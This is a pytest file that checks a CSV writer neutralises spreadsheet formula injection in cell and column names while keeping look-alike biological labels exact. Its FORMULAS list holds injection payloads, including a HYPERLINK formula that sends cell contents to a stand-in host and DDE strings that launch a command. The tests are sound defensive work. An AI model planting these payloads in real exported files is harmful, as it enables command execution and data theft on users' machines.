"""CSV files: names that a spreadsheet would execute, and names that only look like it."""

from __future__ import annotations

import logging
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jind_nb.core import csv_files
from jind_nb.core.csv_files import as_it_was, write_csv

FORMULAS = [
    '=HYPERLINK("http://x.example/"&A1)', "@SUM(A1)", "=1+1", "\t=1", "\r=1", "+SUM(1)", "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0", " =1+1", "\u00a0@SUM(1)", "\n=1", "\ufeff=1", "＠SUM(1)", "＋SUM(1)", "'=1+1", '+HYPERLINK ("x")',
    "-'C:\\[x.xls]s'!A1", "+[x.xls]s!A1",
]  # fmt: skip
HARMLESS = [
    "+",
    "-",
    "-1",
    "+1",
    "-AAACCTGAG-1",
    "CD4+ T",
    "+CD4 T",
    "- not labelled (B)",
    "a=b",
    "user@host",
    "",
    "'",
    "T|B!",
    "-Treg (FOXP3+)",
    "-'",
    "T; B",
    "a;-b",
]


def written(tmp_path: Path, values: list[str], **options: bool) -> pd.DataFrame:
    table = pd.DataFrame({"name": values, "n": range(len(values))})
    write_csv(tmp_path / "table.csv", table, **options)
    return pd.read_csv(tmp_path / "table.csv", dtype={"name": str}, keep_default_na=False)


@pytest.mark.parametrize("categorical", [False, True])
def test_formulas_are_text_and_the_log_says_so(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, categorical: bool
) -> None:
    """Lost otherwise: what is in the sheet, to an address that a cell type's name holds; or a changed name, unnoticed."""
    table = pd.DataFrame({"name": pd.Categorical(FORMULAS) if categorical else FORMULAS})
    with caplog.at_level(logging.WARNING):
        write_csv(tmp_path / "table.csv", table)
    found = pd.read_csv(tmp_path / "table.csv", dtype=str, keep_default_na=False)["name"].tolist()
    assert found == [f"'{value}" for value in FORMULAS]
    assert [as_it_was(value) for value in found] == FORMULAS
    for value in FORMULAS:
        assert f"table.csv: {value!r} stands there" in caplog.text


@pytest.mark.parametrize(
    ("value", "shown"),
    [("T;=1+1", "T;'=1+1"), (";;=1", ";;'=1"), ("a\n =1;@A", "a\n '=1;'@A"), ("=1;=1", "'=1;'=1"), ("a;'=1", "a;''=1")],
)
def test_a_formula_may_begin_where_another_cell_does(tmp_path: Path, value: str, shown: str) -> None:
    """Lost otherwise: the sheet, where columns are separated by semicolons, as in half of Europe."""
    assert written(tmp_path, [value, "B"])["name"].tolist() == [shown, "B"]
    assert as_it_was(shown) == value


@given(st.text("'+-－; aA1|]$\x0b\u200bHDE", max_size=12))
@settings(max_examples=500)
def test_names_that_are_looked_through_at_once_hold_no_formula(value: str) -> None:
    """Lost otherwise: what the marks are for, in tables of many names."""
    assert csv_files.NEEDED.search(value) is None
    assert csv_files._as_text(value) == value


@given(st.text("'=@+-;\t\r\n aA1(!|]＝", max_size=12))
@settings(max_examples=200)
def test_what_was_marked_is_found_again(value: str) -> None:
    """Lost otherwise: a target of a comparison that goes on, to another one of nearly the same name."""
    text = csv_files._as_text(value)
    assert as_it_was(text) == value
    assert csv_files.FORMULA.match(text) is None or text.startswith("'")


@pytest.mark.parametrize("value", HARMLESS)
def test_names_that_merely_look_like_it_stay_exact(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, value: str
) -> None:
    """Lost otherwise: the join with the user's own table, by a barcode or a label that was changed."""
    assert written(tmp_path, [value, "B"])["name"].tolist() == [value, "B"]
    assert caplog.text == ""


def test_names_of_columns_and_rows_are_text_too(tmp_path: Path) -> None:
    """Lost otherwise: the same, where types are columns and cells are rows."""
    table = pd.DataFrame({"@SUM(A1)": [0.5]}, index=pd.Index(["=1+1"], name="cellname"))
    write_csv(tmp_path / "table.csv", table, index=True)
    assert (tmp_path / "table.csv").read_text() == "cellname,'@SUM(A1)\n'=1+1,0.5\n"
    assert list(table.columns) == ["@SUM(A1)"]  # the caller's own is as it was


@pytest.mark.parametrize("text", ["B", "T, helper", 'a "B"', "=1+1"])
def test_a_table_of_many_rows_is_read_back_as_it_was(tmp_path: Path, text: str) -> None:
    """Lost otherwise: digits, or whole columns, of a large file, which another library writes."""
    n = 2 * csv_files.MANY
    table = pd.DataFrame(
        {
            "type": np.where(np.arange(n) % 2, text, "NK"),
            "p": np.random.default_rng(0).random(n).astype(np.float32) ** 30,
            "n": np.arange(n),
            "none": [None, "x"] * csv_files.MANY,
        }
    )
    write_csv(tmp_path / "table.csv", table)
    found = pd.read_csv(tmp_path / "table.csv", dtype={"p": np.float32})
    found["type"] = found["type"].map(as_it_was)
    pd.testing.assert_frame_equal(found, table.replace({"none": {None: np.nan}}), check_exact=True)
